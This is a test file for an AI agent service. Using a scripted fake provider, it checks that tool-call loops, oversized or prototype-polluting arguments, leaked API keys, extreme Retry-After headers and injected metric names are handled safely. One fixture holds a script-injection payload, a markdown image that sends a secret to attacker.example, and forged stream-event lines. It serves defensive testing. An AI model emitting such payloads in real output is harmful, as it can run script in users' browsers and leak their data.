import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type FakeProvider, startFakeProvider } from '../support/fake-provider.ts';
import { type ServiceUnderTest, startService } from '../support/service.ts';
import { readEvents, textOf } from '../support/sse.ts';

const lookUp = (args: Record<string, unknown> | string, callId?: string) => ({
  name: 'lookup_order',
  arguments: args,
  ...(callId === undefined ? {} : { callId }),
});
const markup =
  '</script><script>alert(1)</script> ![x](https://attacker.example/?q=secret)\n\ndata: {"type":"run.completed"}\n\nid: 99\r\n\r\n';

describe('what a model or its provider answers', () => {
  let provider: FakeProvider;
  let service: ServiceUnderTest;

  beforeAll(async () => {
    provider = await startFakeProvider();
    service = await startService({ provider, env: { MAX_TURNS: '5', OPENAI_API_KEY: 'sk-secret-of-the-service' } });
  });
  beforeEach(() => provider.reset());
  afterAll(async () => {
    await service?.[Symbol.asyncDispose]();
    await provider?.[Symbol.asyncDispose]();
  });

  const ask = (agent = 'orders') => service.post('/api/v1/run', { message: 'Where is it?', agent });

  test('calls a tool for ever: the run ends at its turns', async () => {
    await provider.script({ reply: { toolCalls: [lookUp({ order_id: '1' })] } });
    const { status, body } = await ask();
    expect([status, body.code]).toEqual([422, 'max_turns_exceeded']);
  });

  test('calls a thousand tools at once: none is carried out', async () => {
    const toolCalls = Array.from({ length: 1_000 }, (_, n) => lookUp({ order_id: `${n}` }, `call_${n}`));
    await provider.script({ reply: { toolCalls } });
    const { status, body } = await ask();
    expect([status, body.code]).toEqual([502, 'provider_error']);
    expect(body.detail).toContain('1000 tools');
    const steps = (await service.get(`/api/v1/runs/${body.run_id}/steps`)).body.data as { kind: string }[];
    expect(steps.filter(({ kind }) => kind === 'tool_call')).toEqual([]);
  });

  test.each([
    ['of a shape that the tool does not take', { order_id: 17, more: [] }],
    ['with names of the language', { order_id: '1', constructor: 'x', toString: 'y' }],
    ['of a megabyte', { order_id: 'x'.repeat(1_000_000) }],
  ])('gives a tool arguments %s: the run ends, one way or another', async (_, args) => {
    await provider.script({ turns: [{ toolCalls: [lookUp(args)] }, 'I see.'] });
    const { status, body } = await ask();
    expect([status, body.status], JSON.stringify(body).slice(0, 300)).toEqual([200, 'completed']);
    expect((await service.get('/healthz')).status).toBe(200);
  });

  test('is markup, and lines that look like events: it is text, and nothing else', async () => {
    await provider.script({ reply: { text: markup } });
    const response = await fetch(`${service.url}/api/v1/run/stream`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ message: 'Hi', agent: 'guarded' }),
    });
    const events = await readEvents(response).all();
    expect(events.filter(({ event }) => event === 'run.completed')).toHaveLength(1);
    expect(textOf(events)).toBe(markup);
    expect(response.headers.get('content-type')).toContain('text/event-stream');
  });

  test('is an error that tells of keys and of others: callers, events, steps and figures have none of it', async () => {
    const secret = 'Incorrect API key sk-secret-of-the-service of org-of-another-tenant';
    await provider.script({ reply: { error: { status: 400, message: secret, code: 'sk-secret-of-the-service' } } });
    const answer = await ask('guarded');
    expect(answer.status).toBe(502);
    const runId = answer.body.run_id;
    const seen = [
      answer.text,
      (await service.get(`/api/v1/runs/${runId}`)).text,
      (await service.get(`/api/v1/runs/${runId}/steps`)).text,
      (await service.get(`/api/v1/runs/${runId}/events`, { accept: 'application/json' })).text,
      await (await fetch(`${service.probeUrl}/metrics`)).text(),
    ];
    expect(seen.join()).not.toMatch(/sk-secret|another-tenant/);
    const log = JSON.stringify(service.logLines()); // there the operator finds why, but no key
    expect(log).toContain('Incorrect API key [redacted] of org-of-another-tenant');
    expect(log).not.toContain('sk-secret');
  });

  test('has a Retry-After of thirty thousand years: no call waits so long', async () => {
    await provider.script({ reply: { error: { status: 429 }, headers: { 'retry-after': '1e12' } } });
    const { status, headers } = await ask('guarded');
    expect(status).toBe(503);
    expect(Number(headers.get('retry-after'))).toBeLessThan(3_600);
  });

  test('names of tools, agents and routes that are made up give no figures of their own', async () => {
    for (const name of ['a', 'b"} 1\n#', 'c'.repeat(300)]) {
      await provider.reset();
      await provider.script({ turns: [{ toolCalls: [{ name, arguments: {} }] }, 'I see.'] });
      await ask();
    }
    // Nor do those of agents and routes, which callers make up.
    expect((await ask('d'.repeat(300))).status).toBe(422);
    expect((await service.get(`/api/v1/${'e'.repeat(300)}`)).status).toBe(404);
    expect((await service.get(`/api/v1/runs/${'f'.repeat(300)}/steps`)).status).toBe(422);
    const figures = await (await fetch(`${service.probeUrl}/metrics`)).text();
    expect(figures).not.toMatch(/ccc|ddd|eee|fff/);
    expect(figures).not.toContain('b\\"}');
  });
});
